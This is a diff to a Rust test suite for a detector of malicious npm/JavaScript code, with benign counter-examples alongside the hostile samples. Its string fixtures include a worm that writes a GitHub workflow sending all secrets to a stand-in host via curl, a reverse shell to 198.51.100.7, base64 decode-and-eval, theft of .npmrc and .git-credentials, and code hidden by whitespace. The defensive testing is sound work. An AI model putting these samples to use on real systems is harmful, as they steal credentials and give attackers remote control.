@@ -124,11 +124,18 @@ fn worm_writes_workflow_and_publishes() {
     let src = r#"
 const { execSync } = require('child_process');
 const fs = require('fs');
-fs.writeFileSync('.github/workflows/shai.yml', 'on: push');
+fs.writeFileSync('.github/workflows/shai.yml', 'on: push\njobs:\n  x:\n    steps:\n      - run: echo ${{ toJSON(secrets) }} | curl -d @- https://x.example.invalid');
 execSync('npm publish --access public');
 "#;
-    let k = kinds(src);
-    assert!(k.contains(&K::SelfPropagation), "{:?}", facts(src));
+    let f = facts(src);
+    assert!(
+        f.iter()
+            .any(|x| x.0 == K::SelfPropagation && x.2.contains("workflow")),
+        "{f:?}"
+    );
+    // A scaffolding command writing a build template into the project is not a worm.
+    let src = "const fs = require('fs'), path = require('path');\nconst tpl = fs.readFileSync(path.join(__dirname, 'ci.yml'), 'utf8');\nfs.writeFileSync(path.join(process.cwd(), '.github', 'workflows', 'ci.yml'), tpl.replace('{{node}}', '20'));\n";
+    assert!(!kinds(src).contains(&K::SelfPropagation), "{:?}", facts(src));
 }
 
 #[test]
@@ -492,4 +499,64 @@ function copy(t) { return navigator.clipboard.writeText(t); }
 module.exports = { isAddress, copy };
 "#;
     assert!(!has(src, K::BrowserHijack), "{:?}", facts(src));
+}
+
+#[test]
+fn socket_piped_into_a_shell_is_a_reverse_shell() {
+    let src = r#"
+const net = require('net'), cp = require('child_process');
+(function connect() {
+  const s = net.connect(4444, '198.51.100.7', () => {
+    const sh = cp.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);
+    s.pipe(sh.stdin); sh.stdout.pipe(s);
+  });
+})();
+"#;
+    assert!(has(src, K::ReverseShell), "{:?}", facts(src));
+    // A socket and a build step piped to the console are not.
+    let src = "const net=require('net'),cp=require('child_process');const s=net.connect(80,'localhost');const p=cp.spawn('make',[]);p.stdout.pipe(process.stdout);\n";
+    assert!(!has(src, K::ReverseShell), "{:?}", facts(src));
+}
+
+#[test]
+fn node_eval_code_and_array_callbacks_are_followed() {
+    // `node -e` with inline code: the code is analysed.
+    let src = "const cp = require('child_process');\ncp.spawn(process.execPath, ['-e', \"eval(Buffer.from(P,'base64').toString())\"], { detached: true });\n";
+    assert!(has(src, K::DecodeExecute), "{:?}", facts(src));
+    // Secret files named in an array read in a callback and posted.
+    let src = r#"
+const f = require('fs'), h = require('os').homedir(), d = {};
+['.npmrc', '.git-credentials'].forEach(function (n) { d[n] = f.readFileSync(h + '/' + n, 'utf8'); });
+require('https').request({ host: 'x.example.invalid', method: 'POST' }).end(JSON.stringify(d));
+"#;
+    let k = kinds(src);
+    assert!(k.contains(&K::SecretRead), "{:?}", facts(src));
+    assert!(k.contains(&K::SecretExfiltration), "{:?}", facts(src));
+    // A module bound in a try with a null fallback keeps its name.
+    let src = "let WS; try { WS = require('ws'); } catch (e) { WS = null; }\nfunction go() { const s = new WS('wss://h.example.invalid'); s.on('message', (m) => eval(String(m))); }\n";
+    assert!(has(src, K::DownloadExecute), "{:?}", facts(src));
+}
+
+#[test]
+fn code_hidden_by_whitespace_is_named() {
+    let src = format!(
+        "module.exports = {{ a: 1 }};{}require('child_process').exec('id');\n",
+        " ".repeat(300)
+    );
+    let f = facts(&src);
+    assert!(
+        f.iter()
+            .any(|x| x.0 == K::Obfuscation && x.2.contains("columns to the right")),
+        "{f:?}"
+    );
+    let src = format!("module.exports = 1;\n{}require('child_process').exec('id');\n", "\n".repeat(800));
+    let f = facts(&src);
+    assert!(
+        f.iter()
+            .any(|x| x.0 == K::Obfuscation && x.2.contains("blank lines")),
+        "{f:?}"
+    );
+    // Indentation and a few blank lines are ordinary.
+    let src = format!("{}const a = 1;\n\n\n\nmodule.exports = a;\n", " ".repeat(200));
+    assert!(!has(&src, K::Obfuscation), "{:?}", facts(&src));
 }
